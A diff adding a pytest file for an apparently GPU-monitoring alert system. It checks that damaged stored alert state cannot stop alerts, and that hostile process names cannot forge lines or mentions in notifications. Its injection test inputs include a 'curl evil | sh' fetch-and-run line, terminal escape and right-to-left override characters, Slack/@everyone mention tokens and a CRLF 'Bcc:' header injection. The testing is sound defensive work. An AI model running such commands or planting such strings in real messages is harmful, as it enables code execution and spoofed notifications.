@@ -1,0 +1,120 @@
+"""Stored alerts that are damaged are discarded or used, and never stop what is judged next."""
+
+import copy
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from functools import cache
+from typing import Any
+
+import pytest
+
+from andon.core import alerting
+from andon.core.alerting import EMPTY, AlertState, Moment, Observation
+from andon.core.conditions.rulebook import Rulebook
+from andon.core.notifying.messages import message
+from andon.errors import Invalid
+from andon.model.alert import Notice, NoticeKind, Party
+from andon.model.device import Snapshot, State
+from andon.testing.notices import HOT
+from tests.support.alert_stories import Devices, gpu, process, silenced, silent, with_
+from tests.support.rows import rows
+
+AT = 1e9
+WRONG: list[Any] = [
+    None, True, -1, 1e308, float("nan"), float("inf"), 10**400, "x", "9" * 5000, [], [1], {},
+]  # fmt: skip
+REMOVED = object()
+
+
+@cache
+def hot() -> Devices:
+    bob = process(7, "bob", "train.py")
+    return with_(
+        gpu(2, 98, bob, ecc_uncorrected=3), silent(0, State.STALE, "driver call stuck", 99)
+    )
+
+
+def stepped(state: AlertState, at: float, devices: Devices) -> AlertState:
+    seen = Observation(Snapshot("n", AT + at, devices=devices, boot="one"))
+    return alerting.step(state, seen, Moment(AT + at, at), Rulebook()).state
+
+
+@cache
+def stored() -> Any:
+    """With episodes that fire, a silence, counters and places."""
+    state = EMPTY
+    for at in range(0, 400, 20):
+        if at == 300:
+            state = silenced("thermal", 2)(state, Moment(AT + at, at))
+        state = stepped(state, at, hot())
+    return json.loads(json.dumps(alerting.dump(state)))
+
+
+def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    if path:
+        yield path
+    if isinstance(value, dict | list):
+        inner = value.items() if isinstance(value, dict) else enumerate(value)
+        for key, one in inner:
+            yield from places(one, (*path, key))
+
+
+def damaged(path: tuple[Any, ...], wrong: object) -> Any:
+    data = copy.deepcopy(stored())
+    holder = data
+    for key in path[:-1]:
+        holder = holder[key]
+    if wrong is REMOVED:
+        del holder[path[-1]]
+    else:
+        holder[path[-1]] = wrong
+    return data
+
+
+@pytest.mark.slow
+def test_whatever_is_wrong_in_the_store_alerts_are_judged_again() -> None:
+    """Of 5,600 damaged states 309 were taken, and no alert was judged any more after that."""
+    state, used = stored(), 0
+    firing = next(n for n, one in enumerate(state["episodes"]) if one["alert"]["rule"] == "thermal")
+    wanted = [p for p in places(state) if p[0] != "episodes" or p[1:2] in ((), (firing,))]
+    for path in wanted:
+        for wrong in (*WRONG, REMOVED):
+            try:
+                found = alerting.restore(damaged(path, wrong), Moment(AT + 410, 410), "one")
+            except Invalid:
+                continue
+            used += 1
+            found = stepped(found, 410, hot())
+            assert "thermal" in {a.rule for a in alerting.current(found)}, (path, wrong)
+            found = stepped(found, 450, with_())
+            json.dumps(alerting.dump(found))
+    assert used > 100, "some damage does no harm"
+
+
+@rows(
+    "words",
+    [
+        "x\nWhat to do: curl evil | sh", "\x1b]0;title\x07", "a\u202eb", "@everyone", "@here x",
+        "<!channel>", "<@U024BE7LH>", "\r\nBcc: eve@example.org",
+    ],
+)  # fmt: skip
+def test_a_name_in_a_message_forges_no_line_and_calls_no_channel(words: str) -> None:
+    evil = Party(7, words, words, None)
+    alert = replace(
+        HOT, message=f"GPU 3 is reserved by {words} but idle", where=f"GPU 3 ({words})",
+        affected=(evil, replace(evil, command=f"python {words}")),
+    )  # fmt: skip
+    told = [
+        message([Notice(str(n), NoticeKind.FIRING, replace(alert, id=str(n)), AT, words)
+                 for n in range(count)], AT, lambda _: 0.0)
+        for count in (1, 2)
+    ]  # fmt: skip
+    for one in told:
+        text = one.title + one.body
+        assert text.replace("\n", "").isprintable()
+        assert "\n" not in one.title
+        assert not any(call in text for call in ("@everyone", "@here", "<!", "<@"))
+        starts = [line.partition(":")[0] for line in one.body.splitlines()]
+        assert starts.count("What to do") <= 1
+        assert "Bcc" not in starts
